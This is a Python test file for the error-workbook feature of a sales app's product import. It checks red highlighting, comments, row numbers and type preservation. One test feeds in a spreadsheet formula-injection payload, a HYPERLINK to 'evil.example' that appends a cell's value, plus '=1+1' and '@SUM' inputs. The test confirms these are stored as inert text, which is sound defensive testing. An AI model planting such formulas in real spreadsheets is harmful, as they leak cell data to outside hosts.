"""The error workbook: the sheet as it was, red where it is wrong, and safe to open."""

from __future__ import annotations

import io
import zipfile
from datetime import date

import openpyxl
import python_calamine
import spreadsheets as files

from salesflow_graphql.imports.archive import ArchiveLimits
from salesflow_graphql.imports.model import ImportKind, SheetTable
from salesflow_graphql.imports.reading import ReadLimits, read_table
from salesflow_graphql.imports.rules import CatalogueView, check_products
from salesflow_graphql.imports.workbook import render_error_workbook

RED = "FFFFC7CE"
LIMITS = ReadLimits(200_000, ArchiveLimits(2_000, 256 * 1024 * 1024, 200))
INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def rendered(rows: list[list[object]], name: str = "list.xlsx") -> openpyxl.Workbook:
    content = files.xlsx(rows) if name.endswith(".xlsx") else files.csv_bytes(rows)
    table, header = read_table(content, name, ImportKind.PRODUCTS, LIMITS)
    result = check_products(table, header, CatalogueView.of([]))
    workbook = render_error_workbook(table, header.index, result.errors)
    return openpyxl.load_workbook(io.BytesIO(workbook))


def test_invalid_cells_are_red_with_a_comment_and_rows_keep_their_numbers() -> None:
    sheet = rendered(
        [
            ["Supplier list"],
            [],
            ["SKU", "Name", "Price", "Stock"],
            ["A-1", "Widget", "-5", 3],
            ["A-2", "Gadget", 9.99, "many"],
            ["A-3", "Gizmo", 1, 1],
        ]
    ).active
    assert sheet["A1"].value == "Supplier list"
    assert [c.value for c in sheet[3]] == ["SKU", "Name", "Price", "Stock", "Errors"]
    assert sheet["C4"].value == "-5"
    assert sheet["C4"].fill.fgColor.rgb == RED
    assert sheet["C4"].comment.text == "“Price” must be 0 or more."
    assert sheet["D5"].fill.fgColor.rgb == RED and "not a number" in sheet["D5"].comment.text
    assert sheet["E4"].value == "“Price” must be 0 or more."
    assert sheet["E6"].value is None  # a valid row: no error, no red
    assert sheet["A6"].fill.fgColor.rgb != RED
    assert sheet["D5"].value == "many"


def test_strings_are_written_as_text_so_formulas_never_run() -> None:
    # A CSV is where such text arrives as text (an .xlsx would hold a formula, read as its value).
    content = files.csv_bytes(
        [["SKU", "Name", "Price"], ["A-1", INJECTION, "x"], ["=1+1", "@SUM(1)", 1]]
    )
    table, header = read_table(content, "x.csv", ImportKind.PRODUCTS, LIMITS)
    result = check_products(table, header, CatalogueView.of([]))
    workbook = render_error_workbook(table, header.index, result.errors)
    with zipfile.ZipFile(io.BytesIO(workbook)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
    assert sheet["B2"].value == INJECTION
    for ref in ("B2", "A3", "B3"):
        assert sheet[ref].data_type == "s"
        assert sheet[ref].quotePrefix  # editing the cell keeps it text too


def test_csv_short_rows_still_get_their_blank_required_cell_marked() -> None:
    sheet = rendered([["SKU", "Name", "Price"], ["A-1", "Widget"]], name="short.csv").active
    assert sheet["C2"].fill.fgColor.rgb == RED
    assert "required" in sheet["C2"].comment.text
    assert sheet["D1"].value == "Errors"


def test_values_keep_their_types_and_other_readers_open_it() -> None:
    table = SheetTable(
        [
            ["SKU", "Name", "Price", "Since"],
            ["A-1", "Widget", 12.5, date(2024, 3, 5)],
            [1, True, 3, None],
        ],
        first_row=4,
        first_col=2,
        sheet="Prices: [March]",
    )
    workbook = render_error_workbook(table, 0, [])
    book = python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(workbook))
    assert book.sheet_names == ["Prices   March"]
    values = book.get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert values[4][2:] == ["SKU", "Name", "Price", "Since", "Errors"]
    assert values[5][2:6] == ["A-1", "Widget", 12.5, date(2024, 3, 5)]
    assert values[6][2:5] == [1, True, 3]
